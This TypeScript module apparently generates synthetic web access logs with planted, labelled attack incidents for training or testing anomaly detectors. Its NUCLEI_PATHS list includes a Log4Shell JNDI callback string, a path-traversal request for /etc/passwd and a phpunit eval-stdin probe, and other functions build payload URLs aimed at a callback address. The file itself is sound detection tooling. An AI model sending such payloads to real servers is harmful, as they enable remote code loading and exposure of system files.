// Planted web incidents: brute force, credential stuffing, heavy downloads, bursts, payload attacks,
// scanner tools, 404 sweeps, beaconing and an odd client. Builders are shared by the access log and
// the labelled files; every attacker address comes from the seed's attacker pool.
import {
  attackRequest, BROWSER_UA, DISCOVERY_EXTS, DISCOVERY_WORDS, SCRIPT_UAS, SITE, toolUserAgent,
  type AttackCategory, type ToolName,
} from './catalog';
import { benignPublicIp } from './ips';
import { HOUR, MIN, type Plan } from './plan';
import type { Rng } from './rng';
import { fitSpan, periodicTimes, randomWindow, spreadTimes } from './timeline';
import { webEvent } from './web-benign';
import { NOT_ANOMALOUS, randomPage, respond, type WebBackground, type WebEvent } from './web-model';

type P = Plan<WebEvent>;

/** Normal-looking requests from an attacker (labelled 0: the hard part of labelled data). */
function coverTraffic(rng: Rng, ip: string, ua: string, t0: number, dur: number, n: number): WebEvent[] {
  return spreadTimes(rng, t0, dur, n).map((ts) => {
    const p = randomPage(rng);
    const r = respond(rng, p.kind, p.method);
    return webEvent(ts, ip, p.method, p.url, r.status, r.size, rng.chance(0.5) ? '-' : `${SITE}/`, ua);
  });
}

export function bruteForce(plan: P, count: number, dur: number, intensity: string, label: boolean): void {
  const { rng, start, end } = plan.ctx;
  dur = fitSpan(dur, start, end);
  const ip = plan.ctx.attackers.take();
  const path = rng.pick(['/login', '/wp-login.php', '/api/v1/auth/login', '/admin/login']);
  const ua = rng.chance(0.5) ? rng.pick(SCRIPT_UAS) : BROWSER_UA.pick(rng);
  const t0 = randomWindow(rng, start, end, dur);
  const cat = label ? 'brute_force' : NOT_ANOMALOUS;
  const fails = spreadTimes(rng, t0, dur, count).map((ts) =>
    webEvent(ts, ip, 'POST', path, rng.chance(0.85) ? 401 : 403, rng.int(1300, 1800), rng.chance(0.3) ? `${SITE}${path}` : '-', ua, label ? cat : NOT_ANOMALOUS),
  );
  plan.add(fails);
  const details: Record<string, number | string> = { path, failures: count };
  if (intensity === 'fast') {
    // The attempt that worked: the row a responder most needs to see.
    const last = fails[fails.length - 1] as WebEvent;
    plan.add([webEvent(last.ts + rng.int(200, 2000), ip, 'POST', path, 302, 0, '-', ua, label ? cat : NOT_ANOMALOUS)]);
    details.successes = 1;
  }
  plan.incident('brute_force', ip, 'ip', fails, `${count} failed logins (401/403) on POST ${path} from one address over ${Math.round(dur / MIN)} min${intensity === 'fast' ? ', then one success' : ''}`, {
    intensity, category: label ? 'brute_force' : undefined, details,
  });
}

export function credentialStuffing(plan: P, sources: number): void {
  const { rng, start, end } = plan.ctx;
  const path = rng.pick(['/login', '/api/v1/auth/login']);
  const dur = fitSpan(rng.int(20, 60) * MIN, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const ips = plan.ctx.attackers.takeMany(sources);
  const fails: WebEvent[] = [];
  for (const ip of ips) {
    const ua = BROWSER_UA.pick(rng);
    const k = rng.int(1, 4);
    for (const ts of spreadTimes(rng, t0, dur, k)) fails.push(webEvent(ts, ip, 'POST', path, 401, rng.int(1300, 1800), `${SITE}${path}`, ua));
    if (rng.chance(0.04)) plan.add([webEvent(t0 + dur, ip, 'POST', path, 302, 0, `${SITE}${path}`, ua)]);
  }
  plan.add(fails);
  plan.incident('credential_stuffing', path, 'path', fails, `${fails.length} failed logins on POST ${path} from ${sources} addresses within ${Math.round(dur / MIN)} min, each below the per-source brute-force threshold`, {
    details: { sources: ips.length, ips, windowMinutes: Math.round(dur / MIN) },
  });
}

export function heavyDownload(plan: P): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const ua = rng.chance(0.5) ? 'curl/8.4.0' : BROWSER_UA.pick(rng);
  const dur = fitSpan(rng.int(30, 90) * MIN, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const evs: WebEvent[] = [];
  let total = 0;
  const target = rng.range(1.2e9, 3.5e9);
  const times = spreadTimes(rng, t0, dur, 60);
  for (let i = 0; total < target && i < times.length; i++) {
    const size = Math.round(rng.range(40e6, 260e6));
    const url = rng.pick([`/export/orders.csv?from=2024-0${rng.int(1, 9)}-01&to=2025-03-01`, `/backup/db_${rng.int(10, 28)}.sql.gz`, `/api/v1/reports/download?id=${rng.int(100, 999)}`]);
    evs.push(webEvent(times[i] as number, ip, 'GET', url, 200, size, '-', ua));
    total += size;
  }
  plan.add(evs);
  plan.incident('exfiltration', ip, 'ip', evs, `${evs.length} downloads totalling ${(total / 1e9).toFixed(2)} GB of exports and backups by one client`, {
    details: { bytes: total, requests: evs.length },
  });
}

export function burst(plan: P, count: number, label: boolean): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const ua = rng.chance(0.5) ? rng.pick(SCRIPT_UAS) : BROWSER_UA.pick(rng);
  const dur = fitSpan(rng.int(3, 6) * MIN, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const targets = [randomPage(rng, 'search').url, '/', randomPage(rng, 'product').url];
  const evs = spreadTimes(rng, t0, dur, count).map((ts, i) => {
    const late = i > count * 0.4;
    const status = late && rng.chance(0.6) ? rng.pick([503, 503, 429]) : 200;
    return webEvent(ts, ip, 'GET', rng.pick(targets), status, status === 200 ? Math.round(rng.logNormal(35000, 0.2)) : rng.int(200, 600), '-', ua, label ? 'dos' : NOT_ANOMALOUS);
  });
  plan.add(evs);
  plan.incident('dos', ip, 'ip', evs, `${count} requests in ${Math.round(dur / MIN)} min from one address (${Math.round(count / (dur / MIN))}/min), the server starts answering 503/429`, {
    category: label ? 'dos' : undefined, details: { perMinute: Math.round(count / (dur / MIN)), minutes: Math.round(dur / MIN) },
  });
}

export function payloadAttack(plan: P, cat: AttackCategory, count: number, dur: number, intensity: string, cover: number, label: boolean): void {
  const { rng, start, end } = plan.ctx;
  dur = fitSpan(dur, start, end);
  const ip = plan.ctx.attackers.take();
  const callback = benignPublicIp(rng);
  const ua = rng.chance(0.6) ? BROWSER_UA.pick(rng) : rng.pick(SCRIPT_UAS);
  const t0 = randomWindow(rng, start, end, dur);
  const evs = spreadTimes(rng, t0, dur, count).map((ts) => {
    const status = rng.pick([200, 200, 500, 403, 404, 400]);
    return webEvent(ts, ip, rng.chance(0.9) ? 'GET' : 'POST', attackRequest(cat, rng, callback), status, status === 200 ? Math.round(rng.logNormal(20000, 0.5)) : rng.int(200, 900), '-', ua, label ? cat : NOT_ANOMALOUS);
  });
  plan.add(evs);
  if (cover > 0) plan.add(coverTraffic(rng, ip, ua, t0, dur, cover));
  plan.incident('web_attack', ip, 'ip', evs, `${count} requests carrying ${cat} payloads (varied encodings) in paths and query strings${cover ? `, mixed with ${cover} normal-looking requests` : ''}`, {
    category: cat, intensity, details: { coverRequests: cover },
  });
}

const NMAP_PATHS = ['/', '/nmaplowercheck', '/HNAP1', '/evox/about', '/sdk', '/.git/HEAD', '/robots.txt', '/favicon.ico', '/NmapUpperCheck'];
const WP_PATHS = ['/wp-login.php', '/xmlrpc.php', '/wp-json/wp/v2/users', '/readme.html', '/wp-content/debug.log', '/wp-includes/version.php'];
const WP_PLUGINS = ['contact-form-7', 'woocommerce', 'elementor', 'wp-file-manager', 'revslider', 'duplicator', 'akismet', 'yoast', 'jetpack', 'wpforms-lite'];
const NUCLEI_PATHS = ['/.env', '/actuator/env', '/server-status', '/.git/config', '/config.json', '/debug/pprof/', '/api/v1/pods', '/phpinfo.php', '/.DS_Store', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', '/?x=${jndi:ldap://{ip}/a}'];

/** A distinct missing path for discovery tools and 404 sweeps. */
function discoveryPath(i: number): string {
  const w = DISCOVERY_WORDS[i % DISCOVERY_WORDS.length] as string;
  const ext = DISCOVERY_EXTS[Math.floor(i / DISCOVERY_WORDS.length) % DISCOVERY_EXTS.length] as string;
  const round = Math.floor(i / (DISCOVERY_WORDS.length * DISCOVERY_EXTS.length));
  const dir = round === 0 ? '' : `/${DISCOVERY_WORDS[(round * 7) % DISCOVERY_WORDS.length] as string}${round}`;
  return `${dir}/${w}${ext}`;
}

export function scanner(plan: P, tool: ToolName, count: number, label: boolean): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const dur = fitSpan(Math.max(2 * MIN, Math.min(40 * MIN, count * rng.range(150, 900))), start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const callback = benignPublicIp(rng);
  const evs = spreadTimes(rng, t0, dur, count).map((ts, i) => {
    const ua = toolUserAgent(tool, rng);
    let url: string;
    let method = 'GET';
    switch (tool) {
      case 'sqlmap':
        url = attackRequest('sqli', rng, callback);
        break;
      case 'nmap':
        url = rng.pick(NMAP_PATHS);
        method = rng.pick(['GET', 'GET', 'OPTIONS', 'PROPFIND', 'POST']);
        break;
      case 'masscan':
      case 'zgrab':
        url = '/';
        break;
      case 'wpscan':
        url = rng.chance(0.5) ? rng.pick(WP_PATHS) : `/wp-content/plugins/${rng.pick(WP_PLUGINS)}/readme.txt`;
        break;
      case 'nuclei':
        url = rng.pick(NUCLEI_PATHS).replace('{ip}', callback);
        break;
      default:
        url = discoveryPath(i);
        if (tool === 'gobuster' && rng.chance(0.3)) method = 'HEAD';
    }
    const status = url === '/' ? 200 : rng.chance(0.86) ? 404 : rng.pick([200, 403, 301, 500]);
    const size = method === 'HEAD' ? 0 : status === 404 ? Math.round(rng.logNormal(4400, 0.15)) : rng.int(150, 12000);
    return webEvent(ts, ip, method, url, status, size, '-', ua, label ? 'scanner' : NOT_ANOMALOUS);
  });
  plan.add(evs);
  plan.incident('scanner', ip, 'ip', evs, `${count} requests from the ${tool} tool (its own user agent) probing the site`, {
    category: label ? 'scanner' : undefined, details: { tool },
  });
}

export function sweep404(plan: P, distinct: number): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const ua = BROWSER_UA.pick(rng);
  const dur = fitSpan(rng.int(10, 40) * MIN, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const offset = rng.int(0, 5000);
  const evs = spreadTimes(rng, t0, dur, distinct).map((ts, i) => webEvent(ts, ip, 'GET', discoveryPath(i + offset), 404, Math.round(rng.logNormal(4400, 0.15)), '-', ua));
  plan.add(evs);
  plan.incident('sweep_404', ip, 'ip', evs, `${distinct} distinct missing paths requested by one address with an ordinary browser user agent`, {
    details: { distinctPaths: distinct },
  });
}

export function beacon(plan: P, bg: WebBackground): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const interval = Math.min(rng.pick([60, 120, 300, 600]) * 1000, Math.floor(((end - start) * 0.8) / 30));
  const jitter = interval * rng.range(0.01, 0.05);
  const hours = Math.min((end - start) / HOUR * 0.8, rng.range(6, 16));
  const n = Math.max(30, Math.floor((hours * HOUR) / interval));
  const dur = fitSpan(n * interval, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const url = `/${rng.pick(['cdn/js/update.php', 'wp-content/themes/flat/style.php', 'api/v1/sync', 'static/img/pixel.gif'])}?id=${rng.int(0x100000, 0xffffff).toString(16)}`;
  const ua = rng.chance(0.5) ? 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)' : bg.client().ua;
  const evs = periodicTimes(rng, t0, interval, jitter, n).map((ts) => webEvent(ts, ip, 'GET', url, 200, rng.int(120, 180), '-', ua));
  plan.add(evs);
  plan.incident('beaconing', ip, 'ip', evs, `${n} requests to ${url.split('?')[0] as string} every ${interval / 1000} s (+/- ${Math.round(jitter / 1000)} s) for ${(dur / HOUR).toFixed(1)} h`, {
    details: { intervalSeconds: interval / 1000, jitterSeconds: Math.round(jitter / 100) / 10, url },
  });
}

export function oddClient(plan: P, count: number): void {
  const { rng, start, end } = plan.ctx;
  const ip = plan.ctx.attackers.take();
  const ua = rng.pick(['Microsoft-WebDAV-MiniRedir/10.0.19045', 'WebDAVFS/3.0.0 (03008000) Darwin/22.1.0 (x86_64)']);
  const dur = fitSpan(rng.int(1, 3) * HOUR, start, end);
  const t0 = randomWindow(rng, start, end, dur);
  const evs = spreadTimes(rng, t0, dur, count).map((ts, i) => {
    const method = rng.pick(['PROPFIND', 'PROPFIND', 'OPTIONS', 'PUT', 'DELETE', 'MKCOL', 'LOCK']);
    const url = `/${rng.pick(['dav', 'files', 'share', 'webdav'])}/${rng.pick(['docs', 'backup', 'home', 'tmp'])}/${i % 97}${rng.pick(['', '/', '.docx', '.xlsx'])}`;
    return webEvent(ts, ip, method, url, rng.pick([405, 405, 501, 403, 207]), rng.int(0, 400), '-', ua);
  });
  plan.add(evs);
  plan.incident('outlier', ip, 'ip', evs, `one client using only WebDAV methods (PROPFIND, PUT, DELETE...) answered 405/501: a feature profile unlike any other client`, {
    details: { methods: 'PROPFIND,OPTIONS,PUT,DELETE,MKCOL,LOCK' },
  });
}
